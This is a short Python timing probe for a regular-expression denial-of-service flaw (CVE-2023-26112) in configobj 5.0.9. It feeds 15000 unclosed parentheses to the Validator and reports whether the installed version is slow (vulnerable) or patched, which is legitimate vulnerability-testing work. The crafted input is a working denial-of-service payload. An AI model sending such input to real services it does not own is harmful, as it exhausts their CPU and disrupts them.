# Timing probe for configobj 5.0.9 (CVE-2023-26112): Validator._func_re, the pattern
# that splits a check such as "integer(0, 9)", backtracked on a check string of many
# opening parentheses without a closing one (a config spec an attacker controls).
import time

from configobj.validate import Validator, ValidateError

check = "(" * 15000
t = time.perf_counter()
try:
    Validator().check(check, "1")
except ValidateError:
    pass
dt = time.perf_counter() - t
print(f"{'SLOW (vulnerable)' if dt > 1 else 'fast (fixed)'}: {dt:.2f}s for 15000 parentheses")
